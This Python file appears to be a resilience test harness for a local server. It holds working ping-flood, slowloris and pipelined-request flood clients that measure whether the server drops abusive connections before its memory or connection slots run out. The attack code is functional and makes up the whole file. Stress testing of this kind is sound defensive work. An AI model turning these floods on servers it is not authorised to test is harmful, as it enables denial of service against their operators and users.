"""feed_attack.py pingflood, slowloris and pipeflood: clients that send without reading, or
send too slowly, to see whether the agent cuts them before they cost it memory or a slot."""
import errno
import os
import selectors
import socket
import time

from feed_attack_http import HOST, RESET_ERRORS, build_request, connect, now, rss_kb, wait_writable
from feed_attack_ws import frame, upgrade

def cmd_pingflood(a):
    try:
        s, _ = upgrade(a.port, query=a.query, rcvbuf=4096)
    except RuntimeError as e:
        print(f"pingflood upgrade-refused {e}")
        return
    s.setblocking(False)
    key = os.urandom(4)
    one = frame(0x9, b"p" * 125, key=key)
    batch = one * ((1 << 20) // len(one))
    total = a.mb << 20
    sent, t0, last_progress = 0, now(), now()
    outcome = "complete"
    peak = rss_kb(a.pid)
    last_rss = 0
    view = memoryview(batch)
    off = 0
    print(f"attacking pingflood local={s.getsockname()[1]}", flush=True)
    while sent < total:
        if now() - last_rss > 0.1:
            last_rss = now()
            r = rss_kb(a.pid)
            peak = max(peak, r)
            if a.pid and r > a.rss_cap_mb * 1024:
                outcome = f"rss-cap ({r // 1024} MB)"
                break
        if now() - t0 > a.max_seconds:
            outcome = f"max-seconds ({a.max_seconds} s)"
            break
        if now() - last_progress > a.stall_seconds:
            outcome = f"stalled (nothing accepted for {a.stall_seconds} s)"
            break
        try:
            n = s.send(view[off:])
        except (BlockingIOError, InterruptedError):
            wait_writable(s, 0.1)
            continue
        except RESET_ERRORS as e:
            outcome = f"cut ({e.__class__.__name__})"
            break
        sent += n
        off = (off + n) % len(batch)
        last_progress = now()
    if outcome == "complete":
        time.sleep(a.hold)  # the agent still holds what it owes us
        peak = max(peak, rss_kb(a.pid))
    # cut detection without reading the pongs: a reset shows on send or as a socket error
    if outcome == "complete" or outcome.startswith("stalled") or outcome.startswith("max"):
        err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            outcome += f" then cut ({errno.errorcode.get(err, err)})"
    s.close()
    print(f"pingflood sent_mb={sent / 1048576:.1f} pings={sent // len(one)} outcome={outcome} "
          f"seconds={now() - t0:.1f} peak_rss_kb={peak}")


# ------------------------------------------------------------------ slowloris


def cmd_slowloris(a):
    start = f"GET / HTTP/1.1\r\nHost: {HOST}:{a.port}\r\n".encode()
    drip = b"X-Slow: " + b"a" * 1000
    conns = []
    for _ in range(a.conns):
        s = connect(a.port, timeout=5)
        s.sendall(start)
        conns.append({"s": s, "t0": now(), "cut": None, "status": None, "dripped": 0})
    t0 = now()
    print(f"attacking slowloris conns={a.conns}", flush=True)
    next_drip = t0 + a.interval
    sel = selectors.DefaultSelector()
    for c in conns:
        sel.register(c["s"], selectors.EVENT_READ, c)
    open_at_check = None
    while True:
        t = now()
        if open_at_check is None and t - t0 >= a.check_at:
            open_at_check = sum(1 for c in conns if c["cut"] is None)
            break
        if t >= next_drip:
            next_drip += a.interval
            for c in conns:
                if c["cut"] is None:
                    try:
                        c["s"].send(drip[c["dripped"] % len(drip):][:1])
                        c["dripped"] += 1
                    except RESET_ERRORS:
                        c["cut"] = now() - c["t0"]
                        sel.unregister(c["s"])
        for key, _ in sel.select(timeout=max(0.0, min(next_drip, t0 + a.check_at) - now())):
            c = key.data
            try:
                chunk = c["s"].recv(4096)
            except RESET_ERRORS:
                chunk = b""
            if chunk.startswith(b"HTTP/") and c["status"] is None:
                c["status"] = chunk.split(b" ", 2)[1].decode()
            if not chunk:
                c["cut"] = now() - c["t0"]
                sel.unregister(c["s"])
    cuts = sorted(c["cut"] for c in conns if c["cut"] is not None)
    statuses = {}
    for c in conns:
        if c["cut"] is not None:
            k = c["status"] or "none"
            statuses[k] = statuses.get(k, 0) + 1
        c["s"].close()
    sts = ",".join(f"{k}:{v}" for k, v in sorted(statuses.items())) or "-"
    print(f"slowloris conns={a.conns} interval={a.interval}s cut={len(cuts)} "
          f"open_at_{a.check_at:g}s={open_at_check} "
          f"first_cut_s={cuts[0] if cuts else -1:.1f} last_cut_s={cuts[-1] if cuts else -1:.1f} "
          f"statuses={sts}")


def cmd_pipeflood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((HOST, a.port))
    s.setblocking(False)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one = build_request(a.port, target=a.target)
    # one request per send (one segment each, as a client pipelining as it goes would): a
    # server that handles one request per read wakeup gets 20,000 wakeups, not 17 big reads
    sent, t0, outcome = 0, now(), "all sent"
    print(f"attacking pipeflood n={a.n}", flush=True)
    for _ in range(a.n):
        view = memoryview(one)
        while view:
            if now() - t0 > a.send_seconds:
                outcome = f"server stopped taking requests after {a.send_seconds:g} s (backpressure)"
                break
            try:
                n = s.send(view)
                sent += n
                view = view[n:]
            except (BlockingIOError, InterruptedError):
                wait_writable(s, 0.1)
            except RESET_ERRORS as e:
                outcome = f"cut ({e.__class__.__name__})"
                break
        if view:
            break
    send_s = now() - t0
    time.sleep(a.hold)
    s.close()
    print(f"pipeflood requests_sent={sent // len(one)}/{a.n} bytes={sent} send_s={send_s:.1f} "
          f"outcome={outcome!r} held={a.hold}s")
